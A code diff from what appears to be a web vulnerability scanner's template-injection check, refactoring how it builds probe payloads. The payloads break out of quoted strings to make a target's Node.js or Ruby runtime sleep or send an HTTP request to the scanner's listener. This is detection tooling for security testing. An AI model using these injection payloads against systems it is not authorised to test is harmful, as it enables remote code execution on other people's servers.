@@ -1,5 +1,6 @@
 import { pageOf } from '@rocca/tools/web/scope';
 import { cweReference, scored } from '../../core/definition.ts';
+import { actionAsks, actionWaits, askingScript, isActionValue, provingAction } from '../attack/action-values.ts';
 import { callsFunction } from '../attack/called-functions.ts';
 import { encodedAsAsked } from '../attack/encoded-as-asked.ts';
 import { newDatabaseError } from '../attack/error-texts.ts';
@@ -408,6 +409,7 @@ async function waitsOf(trial: Trial): Promise<ReadonlyArray<(seconds: number) =>
         ]
       : []),
     ...(isQuoted ? ["'", '"'].map((quote) => (n: number) => `${value}${quote}.sleep(${n}).${quote}`) : []),
+    ...(isActionValue(trial) ? actionWaits(trial) : []),
   ];
 }
 
@@ -424,19 +426,23 @@ async function readingOf(trial: Trial): Promise<{ isBare: boolean; isQuoted: boo
   };
 }
 
-const script = (url: string, quote: string) =>
-  `(typeof require=='function'?require:process.mainModule.require)('http').get('${url}')`.replaceAll("'", quote);
-
 /** For languages that cannot sleep: code that asks our listener, once. */
 async function askingCodes(trial: Trial): Promise<ReadonlyArray<(url: string) => string>> {
   const { value } = trial.point;
   const { isBare, isQuoted } = await readingOf(trial);
   return [
+    ...(isActionValue(trial) ? actionAsks(trial) : []),
     ...(isBare
-      ? [(url: string) => script(url, "'"), (url: string) => `require('net/http')||1;Net::HTTP.get(URI('${url}'))`]
+      ? [
+          (url: string) => askingScript(url, "'"),
+          (url: string) => `require('net/http')||1;Net::HTTP.get(URI('${url}'))`,
+        ]
       : []),
     ...(isQuoted
-      ? [(url: string) => `${value}'+${script(url, '"')}+'`, (url: string) => `${value}"+${script(url, "'")}+"`]
+      ? [
+          (url: string) => `${value}'+${askingScript(url, '"')}+'`,
+          (url: string) => `${value}"+${askingScript(url, "'")}+"`,
+        ]
       : []),
   ];
 }
@@ -636,7 +642,7 @@ export const templateInjection = {
   wants: () => true,
   attack: attackPoint,
   async waitFor(point, tools) {
-    const trial = await Trial.begin(point, tools);
+    const trial = provingAction(await Trial.begin(point, tools));
     // By now most checks have sent what they send, and the page shows what was sent here.
     const later = trial && wasShownNext(point, tools) ? await calculatesLater(trial) : null;
     if (later) return [later];
